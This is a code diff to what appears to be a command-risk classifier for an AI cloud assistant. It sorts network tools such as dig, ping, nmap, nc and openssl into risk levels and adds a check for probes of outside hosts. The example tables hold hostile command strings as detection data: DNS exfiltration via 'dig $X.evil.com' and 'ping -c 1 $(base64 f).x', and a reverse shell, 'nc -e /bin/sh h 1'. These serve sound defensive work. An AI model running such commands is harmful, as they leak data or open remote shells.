@@ -8,8 +8,20 @@ from __future__ import annotations
 import re
 from dataclasses import replace
 
-from cloud_assist.command.rules.engine.base import Args, Call, Effect, Flags, Program, Rule, Ruling, names, ruled
-from cloud_assist.command.rules.engine.sending import sends_output
+from cloud_assist.command.rules.engine.base import (
+    MANY,
+    OPAQUE,
+    Args,
+    Call,
+    Effect,
+    Flags,
+    Program,
+    Rule,
+    Ruling,
+    names,
+    ruled,
+)
+from cloud_assist.command.rules.engine.sending import is_near, sends_output
 from cloud_assist.command.syntax.parser import Part, Simple
 from cloud_assist.findings import Code
 from cloud_assist.models import Risk
@@ -34,7 +46,8 @@ def _netcat(call: Call) -> Ruling:
     if args.has("-h"):
         return ruled(call, Risk.READ_ONLY, "network.nc.help")
     if args.has("-z") and not args.has("-l"):
-        return ruled(call, Risk.READ_ONLY, "network.nc.probe", "It only asks whether the port is open.")
+        outside = _probed(call, tuple(f"{word.text}:1" for word in args.operands[:1]))
+        return outside or ruled(call, Risk.READ_ONLY, "network.nc.probe", "It only asks whether the port is open.")
     if args.has("-l"):
         return ruled(call, Risk.MUTATING, "network.nc.listen", "It listens for connections.", Code.FOLLOWS)
     return ruled(
@@ -54,26 +67,99 @@ def _asked(call: Call) -> Ruling | None:
     return None
 
 
-_ASKS = Program(
+def _probed(call: Call, targets: tuple[str, ...]) -> Ruling | None:
+    """A machine that is not on one's own network is asked; None where nobody else hears of it."""
+    for target in targets:
+        host = f"[{target}]" if target.count(":") > 1 and target[:1] != "[" else target
+        if OPAQUE in target or not is_near(host if re.search(r":\d+$", host) else f"{host}:1"):
+            return ruled(call, Risk.SENSITIVE, "network.probe", f"`{call.program}` asks a machine outside.")
+    return None
+
+
+_LOOKUP = Program(
     "network.ask",
     Risk.READ_ONLY,
-    Flags(values="-f -c -p -t -q -x -w -i -s -n -m -W -I -Q -S -k -r -F -C -d --resolver"),
+    Flags(
+        values="-f -b -c -k -p -q -t -x -y -m -W -N -R -D",
+        switches="-4 -6 -a -C -d -l -r -s -T -u -v -V -i -A -U -H -B -L -M -P -w -h",
+    ),
+    operands=MANY,
     custom=lambda call, args, verb: _asked(call),
     examples={
         Risk.READ_ONLY: (
             "dig +short x.com",
             "host x",
-            "nslookup x 8.8.8.8",
-            "ping -c 1 x",
-            "traceroute x",
+            "host -t mx x.com",
             "whois x.com",
-            "mtr -r x",
-            "ifstat",
             "dig $HOST",
+            "dig -x 10.0.0.1",
         ),
-        Risk.SENSITIVE: ("dig $X.evil.com", "nslookup $(hostname).x.io"),
-        Risk.MUTATING: ("dig -f names", "cat f | nslookup", "nslookup < f"),
+        Risk.SENSITIVE: ("dig $X.evil.com",),
+        Risk.MUTATING: ("dig -f names",),
+        Risk.UNKNOWN: ("dig --frobnicate x",),
     },
+)
+_NSLOOKUP = Program(
+    "network.ask",
+    Risk.READ_ONLY,
+    Flags(
+        values="-type -query -querytype -class -port -timeout -retry -domain -q -ty -t",
+        switches="-debug -nodebug -d2 -recurse -norecurse -vc -novc -search -nosearch -fail -nofail -version",
+        single_dash=True,
+    ),
+    operands=2,
+    custom=lambda call, args, verb: _asked(call),
+    examples={
+        Risk.READ_ONLY: ("nslookup x 8.8.8.8", "nslookup -type=mx x.com"),
+        Risk.SENSITIVE: ("nslookup $(hostname).x.io",),
+        Risk.MUTATING: ("cat f | nslookup", "nslookup < f"),
+    },
+)
+_IP_SUMS = Program(
+    "network.sums",
+    Risk.READ_ONLY,
+    Flags(values="-f -i", switches="-4 -6 -a -b -c -h -m -n -p -s -r -t -v -z -g -d -w -I -J"),
+    operands=MANY,
+    examples={Risk.READ_ONLY: ("ipcalc 10.0.0.0/24", "ifstat", "geoiplookup 8.8.8.8")},
+)
+_PROBE = Program(
+    "network.probe",
+    Risk.READ_ONLY,
+    Flags(
+        values="-c -p -t -q -w -i -s -m -W -I -Q -S -k -C -d -T -f -z -a -y -B -P -G -o -L -u -R --report-cycles "
+        "--interval --port --psize --first-ttl --max-ttl",
+        switches="-4 -6 -v -x -e -D -M -A -H -N -r -n -b -l --report --report-wide --no-dns --tcp --udp --json "
+        "--csv --xml --raw --curses --help",
+    ),
+    operands=MANY,
+    custom=lambda call, args, verb: (
+        ruled(call, Risk.UNKNOWN, "network.probe.takes", "It claims an address of the network for this machine.")
+        if call.program == "arping" and args.has("-U", "-A", "-S", "-s", "-P")
+        else _asked(call) or _probed(call, tuple(word.text for word in args.operands if not word.text.isdigit()))
+    ),
+    examples={
+        Risk.READ_ONLY: ("traceroute localhost", "mtr -r 10.0.0.1", "fping db"),
+        Risk.SENSITIVE: (
+            "traceroute example.com",
+            "mtr -r -c 10 example.com",
+            "ssh-keyscan h.example.com",
+            "tracepath $H",
+        ),
+        Risk.MUTATING: ("cat f | fping",),
+        Risk.UNKNOWN: ("arping -U 10.0.0.9", "arping -c 3 -A 10.0.0.9", "mtr --frobnicate 10.0.0.1"),
+    },
+)
+_AUDITS = Program(
+    "network.audit",
+    Risk.UNKNOWN,
+    help="--help --version",
+    examples={Risk.UNKNOWN: ("testssl.sh x.com", "bandwhich", "dns-sd -R a _http._tcp . 80")},
+)
+_SPEED = Program(
+    "network.speed",
+    Risk.SENSITIVE,
+    texts={"": "It sends and fetches data to measure the line."},
+    examples={Risk.SENSITIVE: ("speedtest-cli --simple", "speedtest", "sslscan x.com")},
 )
 _PING = Program(
     "network.ping",
@@ -82,22 +168,33 @@ _PING = Program(
         values="-c -i -w -W -s -t -I -M -p -Q -S -l -m -T",
         switches="-4 -6 -A -a -b -B -D -f -n -O -q -r -R -U -v -V -o",
     ),
-    custom=lambda call, args, verb: (
-        _asked(call)
-        if args.has("-c", "-w", "-o", "-V") or _asked(call)
-        else ruled(call, Risk.READ_ONLY, "network.ping", "`ping` only asks.", Code.FOLLOWS)
-    ),
+    operands=1,
+    custom=lambda call, args, verb: _ping(call, args),
     effects=(Effect("-f", Risk.MUTATING, "`ping -f` floods the other machine."),),
-    examples={Risk.READ_ONLY: ("ping x", "ping -c 3 x"), Risk.MUTATING: ("ping -f x", "ping -c 1 $(base64 f).x")},
+    examples={
+        Risk.READ_ONLY: ("ping localhost", "ping -c 3 db", "ping6 -c1 ::1", "ping -c 4 10.0.0.1"),
+        Risk.SENSITIVE: ("ping -c 4 8.8.8.8", "ping example.com"),
+        Risk.MUTATING: ("ping -f x", "ping -c 1 $(base64 f).x"),
+    },
 )
+
+
+def _ping(call: Call, args: Args) -> Ruling | None:
+    asked = _asked(call) or _probed(call, args.verbs)
+    if asked is not None or args.has("-c", "-w", "-o", "-V"):
+        return asked
+    return ruled(call, Risk.READ_ONLY, "network.ping", "`ping` only asks.", Code.FOLLOWS)
+
+
 _NMAP = Program(
     "network.scan",
-    Risk.READ_ONLY,
+    Risk.SENSITIVE,
     Flags(
         values="-p -oN -oX -oG -oA -oS -iL --script --script-args -T -D -S -e -g --top-ports --exclude -m "
         "--min-rate --max-rate --datadir -iR -b",
         single_dash=True,
     ),
+    texts={"": "It asks other machines which ports are open."},
     effects=(
         Effect(
             "-oN -oX -oG -oA -oS -oM -oJ -oH --append-output",
@@ -112,10 +209,11 @@ _NMAP = Program(
         ),
     ),
     examples={
-        Risk.READ_ONLY: ("nmap -p 22 host", "nmap -sn 10.0.0.0/24"),
+        Risk.SENSITIVE: ("nmap -p 22 host", "nmap -sn 10.0.0.0/24"),
         Risk.MUTATING: ("nmap -oN f host",),
         Risk.UNKNOWN: ("nmap --script vuln host", "nmap --interactive"),
     },
+    operands=MANY,
 )
 _TCPDUMP = Program(
     "network.capture",
@@ -137,6 +235,7 @@ _TCPDUMP = Program(
         Risk.MUTATING: ("tcpdump -w f", "tcpdump -ew f", "tcpdump -ne -w f port 80"),
         Risk.UNKNOWN: ("tcpdump -G 1 -w f -z ./x",),
     },
+    operands=MANY,
 )
 _TSHARK = Program(
     "network.capture",
@@ -162,6 +261,7 @@ _TSHARK = Program(
         Risk.MUTATING: ("tshark -w f", "tshark -r f --export-objects http,d"),
         Risk.UNKNOWN: ("tshark -X lua_script:x.lua -r f",),
     },
+    operands=MANY,
 )
 _NGREP = Program(
     "network.capture",
@@ -179,6 +279,7 @@ _NGREP = Program(
         Risk.MUTATING: ("ngrep -O f x", "ngrep -eO f x"),
         Risk.DESTRUCTIVE: ("ngrep -K 1 x port 80",),
     },
+    operands=MANY,
 )
 _OPENSSL_READS = (
     "version, ciphers, help, list, errstr, speed, s_client, s_time, verify, x509, crl, asn1parse, dgst, sha256, "
@@ -187,11 +288,24 @@ _OPENSSL_READS = (
 _OPENSSL = Program(
     "network.openssl",
     Risk.MUTATING,
-    Flags(values="-in -out -connect -servername -CAfile -CApath -cert -key -keyout -inform -outform -passin "
-        "-passout -days -subj -config -engine -provider -provider-path -signkey -CA -CAkey -host -port -starttls "
-        "-cipher -checkend -sess_out -keylogfile -writerand -msgfile -alpn -name -sign -verify -prverify "
-        "-signature -rand -outdir -respout -reqout -CAserial -set_serial -extfile -addtrust -proxy",
-          single_dash=True),
+    Flags(
+        values="-in -out -connect -servername -CAfile -CApath -cert -key -keyout -inform -outform -passin -passout "
+            "-days -subj -config -engine -provider -provider-path -signkey -CA -CAkey -host -port -starttls "
+            "-cipher -checkend -sess_out -keylogfile -writerand -msgfile -alpn -name -sign -verify -signature "
+            "-rand -outdir -respout -reqout -CAserial -set_serial -extfile -addtrust -proxy -attime "
+            "-verify_hostname -verify_email -verify_ip -ext -offset -length -bytes -seconds -multi -groups "
+            "-curves -sigalgs -ciphersuites -verify_depth -xmpphost -nameopt -certopt -CAstore -trusted "
+            "-untrusted -CRLfile -strparse -macopt -mac -hmac -sigopt -prverify",
+        switches="-noout -text -dates -startdate -enddate -subject -issuer -serial -fingerprint -modulus -pubkey "
+            "-email -hash -subject_hash -issuer_hash -ocsp_uri -ocspid -alias -purpose -sha1 -sha256 -sha384 "
+            "-sha512 -md5 -sha224 -nodes -info -showcerts -brief -quiet -ign_eof -no_ign_eof -crlf -tls1 "
+            "-tls1_1 -tls1_2 -tls1_3 -no_tls1 -no_tls1_1 -no_tls1_2 -no_tls1_3 -state -debug -msg -prexit "
+            "-status -verify_return_error -partial_chain -crl_check -crl_check_all -check -pubin -pubout -a "
+            "-v -V -s -b -d -e -f -o -p -r -hex -binary -c -i -print_certs -nokeys -clcerts -cacerts -base64 "
+            "-no_alt_chains -trusted_first -x509_strict -tlsextdebug -6 -4 -psk -digest-commands "
+            "-cipher-commands -digest-algorithms -cipher-algorithms -stdname -evp -elapsed -mr -reconnect",
+        single_dash=True,
+    ),
     verbs={path.strip(): Risk.READ_ONLY for path in _OPENSSL_READS.split(",")},
     effects=(
         Effect("-out -keyout -sess_out -keylogfile -writerand -respout -reqout -msgfile -CAcreateserial -CA -sign "
@@ -212,8 +326,7 @@ _OPENSSL = Program(
             "openssl req -new -key k -out c",
             "openssl x509 -in a -out b", "openssl x509 -in a --out b", "openssl s_client -connect x:443 < f"),
         Risk.UNKNOWN: ("openssl dgst --engine ./x f", "openssl x509 -provider ./x -in a"),
-    },
-)  # fmt: skip
+    },)  # fmt: skip
 
 
 def _openssl(call: Call) -> Ruling:
@@ -241,6 +354,9 @@ def _openssl_key(call: Call, args: Args) -> Ruling | None:
     if verb == "s_client" and _given_input(call):
         text = "It sends what it is given to another machine."
         return ruled(call, Risk.MUTATING, "network.openssl.send", text, Code.SENDS_DATA_OUT)
+    if verb in {"s_client", "s_time"} and not args.has("-help"):
+        where = args.value("-connect") or args.value("-host") or (args.verbs[1] if args.operands[1:] else "localhost")
+        return _probed(call, (where,))
     if verb not in {"rsa", "ec", "pkey", "dsa", "pkcs12", "pkcs8", "req", "enc", "pkcs7", "cms"} or args.has(
         "-out", "-new", "-newkey", "-export", "-x509"
     ):
@@ -255,7 +371,6 @@ def _openssl_key(call: Call, args: Args) -> Ruling | None:
 _MAIL = Program("network.mail", Risk.DESTRUCTIVE, examples={Risk.DESTRUCTIVE: ("mail -s hi a@b.c", "sendmail a@b")})
 
 RULES: dict[str, Rule] = {
-    "ssh-keyscan": _ASKS,
     **dict.fromkeys(
         (
             "nc",
@@ -264,14 +379,12 @@ RULES: dict[str, Rule] = {
         ),
         _netcat,
     ),
-    **dict.fromkeys(
-        names(
-            "dig host nslookup kdig drill delv whois traceroute traceroute6 tracepath mtr ifstat fping tcpping "
-            "arping dnstracer ipcalc sipcalc geoiplookup dns-sd avahi-browse testssl.sh sslscan bandwhich speedtest "
-            "speedtest-cli"
-        ),
-        _ASKS,
-    ),
+    **dict.fromkeys(names("dig host kdig drill delv whois"), _LOOKUP),
+    "nslookup": _NSLOOKUP,
+    **dict.fromkeys(names("ifstat ipcalc sipcalc geoiplookup"), _IP_SUMS),
+    **dict.fromkeys(names("traceroute traceroute6 tracepath mtr fping tcpping arping dnstracer ssh-keyscan"), _PROBE),
+    **dict.fromkeys(names("speedtest speedtest-cli sslscan avahi-browse"), _SPEED),
+    **dict.fromkeys(names("testssl.sh bandwhich dns-sd"), _AUDITS),
     **dict.fromkeys(
         (
             "ping",
@@ -287,7 +400,8 @@ RULES: dict[str, Rule] = {
     **dict.fromkeys(names("mail mailx sendmail mutt msmtp swaks"), _MAIL),
 }
 EXAMPLES = {
-    Risk.READ_ONLY: ("nc -zv host 80", "ssh-keyscan h"),
+    Risk.READ_ONLY: ("nc -zv host 80", "nc -zv 10.0.0.1 443"),
+    Risk.SENSITIVE: ("nc -zv example.com 443", 'nc -z "$H" 22'),
     Risk.MUTATING: ("nc host 80", "nc -l 80"),
     Risk.DESTRUCTIVE: ("nc -e /bin/sh h 1",),
 }
